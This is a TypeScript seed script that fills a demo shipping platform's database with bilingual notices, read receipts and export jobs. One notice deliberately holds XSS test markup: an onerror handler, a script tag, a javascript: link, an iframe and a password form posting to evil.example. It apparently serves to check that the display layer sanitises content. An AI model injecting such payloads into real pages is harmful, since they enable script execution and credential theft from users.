import type { SeedClient } from './base.ts';
import type { DemoTenant } from './demo-accounts.ts';
import type { Random } from './random.ts';
import { enterTenant } from './tenant.ts';

const hour = 3_600_000;
const minute = 60_000;

interface DemoNotice {
  readonly title: string;
  readonly content: string;
  readonly category: '1' | '2';
  readonly priority: 'L' | 'M' | 'H';
  readonly hoursAgo: number;
  readonly open?: { readonly type: 'url' | 'component'; readonly page: string; readonly order?: true };
  /** Names of those it is for; everyone without. */
  readonly users?: readonly string[];
  readonly status?: '0' | '2';
  /** Names of those who have read it. */
  readonly readBy?: readonly string[];
}

const formatted = `<h3>Double-Eleven pick-up times</h3><p>From <strong>9 to 13 November</strong> the warehouses take parcels longer:</p>
<table><thead><tr><th>Warehouse</th><th>Until</th></tr></thead><tbody><tr><td>Shenzhen</td><td>23:30</td></tr><tr><td>Yiwu</td><td>22:00</td></tr></tbody></table>
<ul><li>Hand over before the time above.</li><li>Parcels with batteries go to the <em>marked</em> counter.</li></ul><p>大促期间仓库延长收货，请提前预约。</p>`;

/** As somebody with ill will would write it: stored as sent, harmless only because whoever shows it cleans it. */
const hostile = `<p>A partner's note, shown without its tricks.</p><img src="x" onerror="window.hacked = 1"><script>window.hacked = 2</script>
<a href="javascript:window.hacked = 3">click</a><iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="password"></form>
<p style="position:fixed;inset:0;background:red" onclick="window.hacked = 4">covering</p>`;

const notices: readonly DemoNotice[] = [
  { title: '双十一仓库收货时间 Double-Eleven pick-up times', content: formatted, category: '1', priority: 'H', hoursAgo: 5 },
  {
    title: '美国专线时效恢复 US line is back to normal',
    content: '<p>清关积压已解决，时效恢复为 6-9 天。<br>Customs backlog is cleared: 6 to 9 days again.</p>',
    category: '1',
    priority: 'M',
    hoursAgo: 28,
    open: { type: 'url', page: '/order/list' },
  },
  { title: '合作方来信 A note from a partner', content: hostile, category: '1', priority: 'L', hoursAgo: 50, readBy: ['merchant'] },
  {
    title: '新版接口文档 New API documentation',
    content: '<p>See the documentation for labels in batches.</p>',
    category: '1',
    priority: 'L',
    hoursAgo: 75,
    open: { type: 'url', page: 'https://docs.example.com/waybill' },
    readBy: ['merchant', 'clerk'],
  },
  { title: '春节放假安排 Holidays', content: '<p>草稿 Draft</p>', category: '1', priority: 'L', hoursAgo: 3, status: '0' },
  { title: '误发的通知 Sent by mistake', content: '<p>已撤回 Revoked</p>', category: '1', priority: 'H', hoursAgo: 90, status: '2' },
  {
    title: '月结客户对账 Statements for merchants',
    content: '<p>请核对十月账单。<br>Please check the bill of October.</p>',
    category: '1',
    priority: 'M',
    hoursAgo: 120,
    users: ['merchant', 'globex'],
  },
  {
    title: '订单被退回审核 An order needs your review',
    content: '<p>申报信息不完整，请补充。<br>The declaration is incomplete.</p>',
    category: '2',
    priority: 'H',
    hoursAgo: 2,
    open: { type: 'component', page: 'order/OrderDetail', order: true },
    users: ['merchant', 'globex'],
  },
  {
    title: '包裹已滞留 A parcel is detained',
    content: '<p>请联系收件人提供税号。<br>Ask the recipient for the tax number.</p>',
    category: '2',
    priority: 'M',
    hoursAgo: 9,
    open: { type: 'component', page: 'order/OrderDetail', order: true },
  },
  {
    title: '您的密码将在 30 天后过期 Your password expires in 30 days',
    content: '<p>请及时修改。</p>',
    category: '2',
    priority: 'L',
    hoursAgo: 30,
  },
  {
    title: '欢迎使用 Welcome to Waybill',
    content: '<p>祝生意兴隆。</p>',
    category: '2',
    priority: 'L',
    hoursAgo: 400,
    readBy: ['merchant', 'clerk', 'globex'],
  },
  { title: '仅店员可见 For clerks only', content: '<p>交接班表已更新。</p>', category: '2', priority: 'M', hoursAgo: 20, users: ['clerk'] },
];

/** A dozen notices of all kinds and a few jobs of the first user, in all states. The tenant's orders are there already. */
export async function insertNotices(client: SeedClient, tenant: DemoTenant, random: Random, now: number): Promise<void> {
  await enterTenant(client, tenant.id);
  const users = await client.query<{ id: string; username: string }>('SELECT id, username FROM app_user WHERE tenant_id = $1', [tenant.id]);
  const idOf = new Map(users.rows.map(({ id, username }) => [username, id]));
  const { rows: orders } = await client.query<{ id: string }>(
    'SELECT id FROM shipment_order WHERE tenant_id = $1 ORDER BY created_at DESC, id DESC LIMIT 1',
    [tenant.id],
  );
  for (const notice of notices) await insertNotice(client, tenant.id, random, now, notice, idOf, orders[0]?.id ?? null);
  const owner = idOf.get(tenant.users[0]?.username ?? '');
  if (owner !== undefined) await insertJobs(client, tenant.id, owner, random, now);
}

async function insertNotice(
  client: SeedClient,
  tenantId: string,
  random: Random,
  now: number,
  notice: DemoNotice,
  idOf: ReadonlyMap<string, string>,
  orderId: string | null,
): Promise<void> {
  const { title, content, category, priority, hoursAgo, open, users, status = '1', readBy = [] } = notice;
  const named = [...new Set([...(users ?? []), ...readBy])].flatMap((name) => idOf.get(name) ?? []);
  if (users !== undefined && named.length === 0) return;
  const at = now - hoursAgo * hour;
  const id = random.id(at);
  const moment = new Date(at).toISOString();
  const rowValues = {
    tenant_id: tenantId,
    id,
    title,
    content,
    sender: 'Waybill',
    category,
    priority,
    open_type: open?.type ?? '',
    open_page: open?.page ?? null,
    bus_id: open?.order === true ? orderId : null,
    audience: users === undefined ? 'ALL' : 'USER',
    send_status: status,
    created_at: moment,
    sent_at: status === '0' ? null : moment,
  };
  await client.query('INSERT INTO announcement SELECT * FROM json_populate_record(NULL::announcement, $1)', [JSON.stringify(rowValues)]);
  const readers = new Set(readBy.flatMap((name) => idOf.get(name) ?? []));
  for (const userId of named) {
    const readAt = readers.has(userId) ? new Date(at + hour).toISOString() : null;
    await client.query('INSERT INTO announcement_send VALUES ($1, $2, $3, $4)', [tenantId, id, userId, readAt]);
  }
}

/** The waiting one is real: the server's worker writes that export a minute after the demo was made. */
async function insertJobs(client: SeedClient, tenantId: string, userId: string, random: Random, now: number): Promise<void> {
  const insert = (minutesAgo: number, kind: string, input: unknown, rest: Readonly<Record<string, unknown>>) => {
    const at = now - minutesAgo * minute;
    const iso = (moment: number) => new Date(moment).toISOString();
    const job = {
      id: random.id(at),
      kind,
      begin_at: iso(at),
      end_at: iso(at + 2 * minute),
      status: '2',
      opt_type: '',
      fail_reason: null,
      ...rest,
    };
    return client.query(
      `INSERT INTO job (tenant_id, id, user_id, kind, input, language, status, created_at, available_at, begin_at, end_at, opt_type, fail_reason)
       VALUES ($1, $2, $3, $4, $5, 'zh_CN', $6, $7, $8, $9, $10, $11, $12)`,
      [
        tenantId,
        job.id,
        userId,
        kind,
        JSON.stringify(input),
        job.status,
        iso(at),
        iso(now + minute),
        job.begin_at,
        job.end_at,
        job.opt_type,
        job.fail_reason,
      ],
    );
  };
  await insert(1_500, 'billStatement', {}, { opt_type: '2' });
  await insert(300, 'orderExport', {}, { status: '3', fail_reason: 'job.failed' });
  await insert(0, 'orderExport', { orderStatus: 'delivered' }, { status: '1', begin_at: null, end_at: null });
}
